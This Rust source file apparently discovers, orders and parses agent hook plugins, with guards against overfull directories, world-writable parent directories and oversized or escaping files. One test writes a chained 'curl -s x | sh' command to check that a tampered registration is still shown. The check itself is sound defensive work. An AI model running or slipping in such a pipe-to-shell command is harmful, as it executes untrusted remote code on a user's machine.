//! Finding plugins, in a documented, deterministic order:
//!
//! 1. the user level, `~/.amplifier/hooks/`, then the project level, `<project>/.amplifier/hooks/`
//!    (the project is the nearest directory holding `.amplifier`, looking up from
//!    `CLAUDE_PROJECT_DIR`, `AMPLIFIER_PROJECT_DIR` or the event's `cwd`, below the home directory);
//! 2. in each level, `hooks.json` itself, then one plugin per subdirectory, in byte order of
//!    the names: `<name>/hooks.json`, or a Claude Code plugin's `<name>/hooks/hooks.json`, else the
//!    `hooks` of its manifest `<name>/.claude-plugin/plugin.json`.

use std::path::{Path, PathBuf};

use amplihack_state::bounded;

use crate::config::{self, ConfigError, PluginConfig};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Level {
    User,
    Project,
}

impl Level {
    pub fn as_str(self) -> &'static str {
        match self {
            Level::User => "user",
            Level::Project => "project",
        }
    }
}

#[derive(Debug, Clone)]
pub struct Plugin {
    /// The subdirectory's name, or `hooks.json` for the level's own file.
    pub name: String,
    pub level: Level,
    /// `CLAUDE_PLUGIN_ROOT`: the plugin's directory.
    pub root: PathBuf,
    /// `AMPLIFIER_HOOKS_DIR`: the level's hooks directory.
    pub hooks_dir: PathBuf,
    pub file: PathBuf,
    pub config: Result<PluginConfig, ConfigError>,
    /// The files read to make `config` (its hooks file, the one a manifest names), each with the
    /// SHA-256 of the bytes parsed: trust compares these (`trust_scope::check`).
    pub parsed: Vec<(PathBuf, String)>,
}

impl Plugin {
    /// An AMCP hook file found by discovery (not a plugin subdirectory that happens to be named so).
    pub fn is_amcp(&self) -> bool {
        self.name == crate::dialects::amcp::NAME
            && self.root.parent() != Some(self.hooks_dir.as_path())
    }

    /// A plugin in a dialect Amplifier's hook-shell bridge does not read (it reads `hooks.json`):
    /// an AMCP file or a proposal `hooks.yaml`.
    pub fn is_foreign(&self) -> bool {
        self.is_amcp() || self.file.ends_with(crate::dialects::proposal::FILE)
    }
}

/// The most entries a hooks directory may hold: a level is read on every tool call, and 20,000
/// empty directories cost a second each time. Past it the level is refused as a whole
/// ([`OVERFULL`]), after reading no more than this many names.
pub const MAX_LEVEL_ENTRIES: usize = 1_000;

/// The name of the one "plugin" a refused level is reported as: its `config` says why, and
/// nothing of the level runs or is trusted.
pub const OVERFULL: &str = "(hooks directory)";

/// The hooks files of one level, in order, without reading them; `Err` when the level holds more
/// than [`MAX_LEVEL_ENTRIES`] entries.
pub fn plugin_files(hooks_dir: &Path) -> Result<Vec<(String, PathBuf, PathBuf)>, ConfigError> {
    Ok(listed_files(hooks_dir)?
        .files
        .into_iter()
        .map(|f| (f.name, f.root, f.file))
        .collect())
}

/// One hooks file found in a level, with what its `stat` said.
#[derive(Debug, Clone)]
pub struct Listed {
    pub name: String,
    pub root: PathBuf,
    pub file: PathBuf,
    pub stamp: Stamp,
}

use amplihack_platform::stamp::DirFd;
pub use amplihack_platform::stamp::{Probe, Stamp};

/// A level's hooks files ([`Listed`]), and every `stat` that decided which files those are
/// ([`Probe`]s, replayed by the plugin index): the level's directory (an entry added, removed or
/// renamed there changes its mtime), the own `hooks.json`, each candidate file of each plugin
/// directory (found or not), the `hooks/` or `.claude-plugin/` directory a file was found in, and
/// each entry that is a link.
#[derive(Debug, Clone, Default)]
pub struct Listing {
    pub files: Vec<Listed>,
    pub probes: Vec<Probe>,
    /// When the first `stat` was made (ns since the epoch): a stamp not older than this, less
    /// the clock's coarseness, may hide a second change in the same tick.
    pub observed_ns: i128,
}

fn overfull_error(hooks_dir: &Path) -> ConfigError {
    ConfigError {
        file: hooks_dir.to_path_buf(),
        field: "(directory)".into(),
        problem: format!(
            "holds more than {MAX_LEVEL_ENTRIES} entries; amplihack reads at most {MAX_LEVEL_ENTRIES} plugins a level, so none of this level's ran"
        ),
        fix: "remove what is not a plugin from the directory".into(),
    }
}

/// Why the level is refused as a whole (more than [`MAX_LEVEL_ENTRIES`] entries), by its names
/// alone: no `stat`.
pub fn overfull(hooks_dir: &Path) -> Option<ConfigError> {
    let names = std::fs::read_dir(hooks_dir)
        .map(|entries| entries.take(MAX_LEVEL_ENTRIES + 1).count())
        .unwrap_or(0);
    (names > MAX_LEVEL_ENTRIES).then(|| overfull_error(hooks_dir))
}

/// Now, in ns since the epoch.
pub fn now_ns() -> i128 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_nanos() as i128)
}

/// [`plugin_files`] with what its `stat`s said ([`Listing`]). Every `stat` is relative to the
/// level's directory, opened once.
pub fn listed_files(hooks_dir: &Path) -> Result<Listing, ConfigError> {
    use std::os::unix::ffi::OsStrExt;
    let mut listing = Listing {
        observed_ns: now_ns(),
        ..Listing::default()
    };
    let at = DirFd::open(hooks_dir);
    let (mut buf, mut probes) = (Vec::new(), Vec::new());
    at.probe(b".", false, &mut buf, &mut probes);
    if at
        .probe(b"hooks.json", true, &mut buf, &mut probes)
        .is_some()
    {
        let stamp = probes[probes.len() - 1].found.unwrap_or_default();
        listing.files.push(Listed {
            name: "hooks.json".to_string(),
            root: hooks_dir.to_path_buf(),
            file: hooks_dir.join("hooks.json"),
            stamp,
        });
    }
    let entries: Vec<std::fs::DirEntry> = match std::fs::read_dir(hooks_dir) {
        Ok(entries) => entries.flatten().take(MAX_LEVEL_ENTRIES + 1).collect(),
        Err(_) => {
            listing.probes = probes;
            return Ok(listing);
        }
    };
    if entries.len() > MAX_LEVEL_ENTRIES {
        return Err(overfull_error(hooks_dir));
    }
    // The entry's type from readdir itself (no stat); a link followed (and recorded: what it
    // names can change without the level's directory changing).
    let mut subdirs: Vec<std::ffi::OsString> = Vec::new();
    for entry in entries {
        let is_dir = match entry.file_type() {
            Ok(t) if t.is_dir() => true,
            Ok(t) if !t.is_symlink() => false,
            _ => at
                .probe(entry.file_name().as_bytes(), false, &mut buf, &mut probes)
                .is_some_and(|s| s.is_dir()),
        };
        if is_dir {
            subdirs.push(entry.file_name());
        }
    }
    // By name: byte order.
    subdirs.sort_unstable_by(|a, b| a.as_bytes().cmp(b.as_bytes()));
    let mut rel = Vec::new();
    for name in subdirs {
        let dir = hooks_dir.join(&name);
        let display = name.to_string_lossy().into_owned();
        let mut path_of = |file: &str| {
            rel.clear();
            rel.extend_from_slice(name.as_bytes());
            rel.push(b'/');
            rel.extend_from_slice(file.as_bytes());
            rel.clone()
        };
        // Most plugins stop at the first.
        let file = ["hooks.json", "hooks/hooks.json", MANIFEST]
            .into_iter()
            .find_map(|file| {
                at.probe(&path_of(file), true, &mut buf, &mut probes)
                    .map(|stamp| (file, stamp))
            });
        if let Some((file, stamp)) = file {
            let path = dir.join(file);
            if display == AMPLIHACK_DIR && is_amplihack_registration(&path) {
                // Not a plugin while it is amplihack's own registration: what it says (its
                // stamp, probed above) decides that.
            } else {
                // Where a file was found below the plugin's directory, that directory's entries
                // decide it too (a `hooks.json` created beside a manifest, say).
                if let Some((parent, _)) = file.rsplit_once('/') {
                    at.probe(&path_of(parent), false, &mut buf, &mut probes);
                }
                listing.files.push(Listed {
                    name: display.clone(),
                    root: dir.clone(),
                    file: path,
                    stamp,
                });
            }
        }
        // The proposal's YAML, beside or instead of hooks.json (dialects::proposal).
        let yaml = crate::dialects::proposal::FILE;
        if let Some(stamp) = at.probe(&path_of(yaml), true, &mut buf, &mut probes) {
            listing.files.push(Listed {
                file: dir.join(yaml),
                name: display,
                root: dir,
                stamp,
            });
        }
    }
    listing.probes = probes;
    Ok(listing)
}

/// A Claude Code plugin's manifest, whose `hooks` (inline, or the path of a hooks file) is read
/// when the plugin has no `hooks.json` of its own.
pub const MANIFEST: &str = ".claude-plugin/plugin.json";

/// The directory `amplihack install` registers amplihack in for Amplifier's bridge.
pub const AMPLIHACK_DIR: &str = "amplihack";

/// amplihack's own bridge registration: every handler is exactly a command amplihack writes
/// ([`amplihack_protocol::command::is_own_command`]: nothing chained, nothing added). It is not a
/// user plugin: never listed, trusted, fingerprinted or forwarded. Anything else in that directory
/// is shown, trusted and run as any plugin is.
pub fn is_amplihack_registration(file: &Path) -> bool {
    let Ok(text) = read_small(file) else {
        return false;
    };
    match config::parse(file, &text) {
        Ok(config) => {
            let mut handlers = config
                .groups
                .iter()
                .flat_map(|g| g.handlers.iter())
                .peekable();
            handlers.peek().is_some()
                && handlers.all(|h| amplihack_protocol::command::is_own_command(&h.command))
        }
        Err(_) => false,
    }
}

pub use crate::config::read_small;

pub fn load_level(hooks_dir: &Path, level: Level) -> Vec<Plugin> {
    load_listed(hooks_dir, level, listed_files(hooks_dir))
}

/// The plugins of a level whose files were listed ([`listed_files`]; `Err`: the level is refused
/// as a whole, [`OVERFULL`]), each file read and parsed.
pub fn load_listed(
    hooks_dir: &Path,
    level: Level,
    listing: Result<Listing, ConfigError>,
) -> Vec<Plugin> {
    let mut files: Vec<(String, PathBuf, PathBuf)> = match listing {
        Ok(listing) => listing
            .files
            .into_iter()
            .map(|f| (f.name, f.root, f.file))
            .collect(),
        Err(error) => {
            return vec![Plugin {
                name: OVERFULL.into(),
                level,
                root: hooks_dir.to_path_buf(),
                hooks_dir: hooks_dir.to_path_buf(),
                file: hooks_dir.to_path_buf(),
                config: Err(error),
                parsed: Vec::new(),
            }];
        }
    };
    // The level's AMCP hook file (dialects::amcp): a stat or two.
    let amcp = amcp_file(hooks_dir, level);
    if let Some((root, file)) = &amcp {
        files.push((
            crate::dialects::amcp::NAME.into(),
            root.clone(),
            file.clone(),
        ));
    }
    files
        .into_iter()
        .map(|(name, root, file)| {
            crate::config::take_read();
            let config = match read_small(&file) {
                Ok(text) if file.ends_with(MANIFEST) => config::parse_manifest(&file, &text),
                Ok(text) if file.ends_with(crate::dialects::proposal::FILE) => {
                    crate::dialects::proposal::parse(&file, &text)
                }
                Ok(text) if amcp.as_ref().is_some_and(|(_, amcp)| *amcp == file) => {
                    crate::dialects::amcp::parse(&file, &text)
                }
                Ok(text) => config::parse(&file, &text),
                Err(e) => Err(ConfigError {
                    file: file.clone(),
                    field: "(file)".into(),
                    problem: format!("cannot be read: {e}"),
                    fix: format!(
                        "make it a readable regular file of at most {} bytes",
                        bounded::HOOKS_FILE_CAP
                    ),
                }),
            };
            Plugin {
                name,
                level,
                root,
                hooks_dir: hooks_dir.to_path_buf(),
                file,
                config,
                parsed: crate::config::take_read(),
            }
        })
        .collect()
}

/// Reads any hooks file by what it is: a Claude Code `hooks.json` or plugin manifest, the
/// proposal's `hooks.yaml`, or an AMCP hook file (`hooks.toml`, or `hooks.json` in `.amcp/` or an
/// `amcp` config directory). What `hooks validate FILE` reads.
pub fn parse_file(file: &Path, text: &str) -> Result<PluginConfig, ConfigError> {
    use crate::dialects::unknown_keys::Dialect;
    match dialect_of(file) {
        None => config::parse_manifest(file, text),
        Some(Dialect::Proposal) => crate::dialects::proposal::parse(file, text),
        Some(Dialect::Amcp) => crate::dialects::amcp::parse(file, text),
        Some(Dialect::Claude) => config::parse(file, text),
    }
}

/// The dialect a hooks file is read in, by its name and place; `None` for a Claude Code plugin
/// manifest (which names or holds a hooks file).
pub fn dialect_of(file: &Path) -> Option<crate::dialects::unknown_keys::Dialect> {
    use crate::dialects::unknown_keys::Dialect;
    let ext = file.extension().and_then(|e| e.to_str()).unwrap_or("");
    let dir = file.parent().and_then(Path::file_name);
    let in_amcp_dir = dir.is_some_and(|d| d == ".amcp")
        || (dir.is_some_and(|d| d == "amcp")
            && file
                .parent()
                .and_then(Path::parent)
                .and_then(Path::file_name)
                .is_some_and(|d| d == ".config"))
        || std::env::var_os(amplihack_env::XDG_CONFIG_HOME)
            .is_some_and(|x| file.parent() == Some(Path::new(&x).join("amcp").as_path()));
    if file.ends_with(MANIFEST) {
        None
    } else if matches!(ext, "yaml" | "yml") {
        Some(Dialect::Proposal)
    } else if ext == "toml" || in_amcp_dir {
        Some(Dialect::Amcp)
    } else {
        Some(Dialect::Claude)
    }
}

/// The AMCP hook file that goes with a level's hooks directory (`<dir>/../..` is the project or
/// the home): `<project>/.amcp/hooks.*`, or the user's `$XDG_CONFIG_HOME/amcp/hooks.*`; with the
/// directory its relative commands are read from (the project's; the user's own for the user).
pub fn amcp_file(hooks_dir: &Path, level: Level) -> Option<(PathBuf, PathBuf)> {
    let dir = amcp_dir(hooks_dir, level)?;
    crate::dialects::amcp::file_in(&dir).map(|file| (dir, file))
}

/// Where the level's AMCP hook file would be (no `stat`).
pub fn amcp_dir(hooks_dir: &Path, level: Level) -> Option<PathBuf> {
    let base = hooks_dir.parent().and_then(Path::parent)?;
    Some(match level {
        Level::Project => base.join(".amcp"),
        Level::User => crate::dialects::amcp::user_dir(base),
    })
}

/// The project directory holding `.amplifier` (or `.amcp`), looking up from `start` but not
/// reaching `home` (whose `.amplifier` is the user level), nor going above a directory someone
/// else could have written to: the search stops at a world-writable directory (`/tmp`, where any
/// user can create `/tmp/.amplifier/hooks`) and at a parent owned by neither you nor root. The
/// directory you start in is your choice; a parent is picked up without your naming it, so only
/// one nobody else controls.
pub fn project_with_hooks(start: &Path, home: Option<&Path>) -> Option<PathBuf> {
    use std::os::unix::fs::MetadataExt;
    let me = amplihack_platform::fs::effective_uid();
    for (i, dir) in start.ancestors().enumerate() {
        if Some(dir) == home {
            return None;
        }
        if let Ok(meta) = std::fs::metadata(dir) {
            let world_writable = meta.mode() & 0o002 != 0;
            let foreign = i > 0 && meta.uid() != me && meta.uid() != 0;
            if world_writable || foreign {
                return None;
            }
        }
        if dir.join(".amplifier/hooks").is_dir() || dir.join(".amcp").is_dir() {
            return Some(dir.to_path_buf());
        }
    }
    None
}

/// Same file system object (so a project that *is* the home directory is one level, not two).
pub fn same_dir(a: &Path, b: &Path) -> bool {
    match (a.canonicalize(), b.canonicalize()) {
        (Ok(a), Ok(b)) => a == b,
        _ => a == b,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt;

    fn write(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }

    #[test]
    fn the_upward_search_stops_at_a_world_writable_directory() {
        let dir = tempfile::tempdir().expect("tempdir");
        let shared = dir.path().join("shared");
        write(&shared.join(".amplifier/hooks/x/hooks.json"), "{}");
        let mine = shared.join("mine/src");
        std::fs::create_dir_all(&mine).expect("mkdir");
        assert_eq!(project_with_hooks(&mine, None), Some(shared.clone()));
        std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).expect("chmod");
        assert_eq!(project_with_hooks(&mine, None), None);
        // Nor is a world-writable directory one's project when started in.
        assert_eq!(project_with_hooks(&shared, None), None);
        // The home directory ends the search too.
        std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        assert_eq!(project_with_hooks(&mine, Some(&shared.join("mine"))), None);
    }

    #[test]
    fn a_level_of_too_many_entries_is_one_refusal_read_no_further() {
        let dir = tempfile::tempdir().expect("tempdir");
        let hooks = dir.path().join(".amplifier/hooks");
        for i in 0..=MAX_LEVEL_ENTRIES {
            std::fs::create_dir_all(hooks.join(format!("p{i}"))).expect("mkdir");
        }
        let plugins = load_level(&hooks, Level::Project);
        assert_eq!(plugins.len(), 1);
        assert_eq!(plugins[0].name, OVERFULL);
        let error = plugins[0].config.as_ref().expect_err("refused");
        assert!(error.problem.contains("more than 1000 entries"), "{error}");
    }

    #[test]
    fn only_amplihacks_exact_registration_is_hidden() {
        let dir = tempfile::tempdir().expect("tempdir");
        let hooks = dir.path().join(".amplifier/hooks");
        let file = hooks.join("amplihack/hooks.json");
        let with = |command: &str| {
            let config = serde_json::json!({"hooks": {"PreToolUse": [{"hooks": [
                {"type": "command", "command": command}]}]}});
            write(&file, &config.to_string());
            load_level(&hooks, Level::Project).len()
        };
        assert_eq!(with("/p/amplihack-hooks pre-tool-use --host amplifier"), 0);
        assert_eq!(
            with("/p/amplihack-hooks --host amplifier pre-tool-use; curl -s x | sh"),
            1
        );
    }

    #[test]
    fn hooks_files_are_read_with_a_bound() {
        let dir = tempfile::tempdir().expect("tempdir");
        let hooks = dir.path().join(".amplifier/hooks");
        let file = hooks.join("big/hooks.json");
        write(&file, "");
        std::fs::File::options()
            .write(true)
            .open(&file)
            .and_then(|f| f.set_len(bounded::HOOKS_FILE_CAP + 1))
            .expect("grow");
        let plugins = load_level(&hooks, Level::Project);
        let error = plugins[0].config.as_ref().expect_err("refused");
        assert!(error.problem.contains("larger than"), "{error}");
        // A manifest naming a device or leaving the plugin.
        for (hooks_path, says) in [
            ("/dev/zero", "absolute path"),
            ("../../elsewhere/hooks.json", "leaves the plugin"),
        ] {
            let manifest = hooks.join("m/.claude-plugin/plugin.json");
            write(
                &manifest,
                &serde_json::json!({"hooks": hooks_path}).to_string(),
            );
            let plugins = load_level(&hooks, Level::Project);
            let m = plugins.iter().find(|p| p.name == "m").expect("listed");
            let error = m.config.as_ref().expect_err("refused");
            assert!(error.problem.contains(says), "{error}");
            assert_eq!(error.field, "hooks");
        }
    }
}
